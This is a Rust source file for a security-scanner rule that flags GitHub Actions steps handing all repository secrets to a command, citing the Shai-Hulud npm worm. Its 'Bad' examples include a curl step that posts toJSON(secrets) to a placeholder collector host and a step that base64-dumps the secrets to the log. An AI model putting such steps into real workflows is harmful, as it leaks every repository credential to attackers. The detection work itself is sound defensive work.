//! # A workflow hands all secrets to a command
//!
//! A step of a workflow turns all secrets of the repository into text and gives it to a command.
//!
//! ## Why it matters
//!
//! A worm that can commit adds such a workflow and reads every secret of the repository, those of other
//! branches included, from its log, an artifact or its own host.
//!
//! ## Known benign uses
//!
//! A step needs the secrets it names. Nothing needs them all as text.
//!
//! ## Bad
//!
//! ```package project
//! == package.json
//! {"name": "x", "version": "1.0.0", "private": true}
//! == .github/workflows/check.yml
//! on: push
//! jobs:
//!   check:
//!     runs-on: ubuntu-latest
//!     steps:
//!       - run: curl -d "$ALL" https://collector.invalid/ #~ here
//!         env:
//!           ALL: ${{ toJSON(secrets) }}
//! ```
//!
//! ```package project
//! == package.json
//! {"name": "x", "version": "1.0.0", "private": true}
//! == .github/workflows/lint.yml
//! on: [push]
//! jobs:
//!   lint:
//!     runs-on: ubuntu-latest
//!     steps:
//!       - run: echo '${{ toJson( secrets ) }}' | base64 -w0 | base64 -w0 #~ here
//! ```
//!
//! ## Good
//!
//! ```package project
//! == package.json
//! {"name": "x", "version": "1.0.0", "private": true}
//! == .github/workflows/release.yml
//! on: push
//! jobs:
//!   release:
//!     runs-on: ubuntu-latest
//!     steps:
//!       - run: npx semantic-release
//!         env:
//!           TOKEN: ${{ secrets.RELEASE_TOKEN }}
//!       - run: echo '${{ toJSON(github.event) }}'
//! ```
//!
//! ## References
//!
//! - Wiz: Shai-Hulud npm Supply Chain Attack (September 2025)

use crate::prelude::*;

/// A workflow hands all secrets to a command.
pub struct WorkflowSendsAllSecrets;

impl Rule for WorkflowSendsAllSecrets {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "workflow-sends-all-secrets",
            title: "A workflow hands all secrets to a command",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1567",
            covers: &["exfil-ci-artifact", "persist-gha-workflow"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        let mut seen: Vec<&str> = Vec::new();
        for fact in facts.auto_runs() {
            let is_step = matches!(fact.entry.event, AutoRunEvent::Workflow(_))
                && matches!(fact.entry.command, AutoRunCommand::Shell(_));
            if is_step
                && fact.entry.notes.contains(&AutoRunNote::AllSecrets)
                && !seen.contains(&fact.locus.file.as_str())
            {
                seen.push(&fact.locus.file);
                found.at(Trigger::Build, &fact.locus, "gives all secrets of the repository to a command");
            }
        }
    }
}
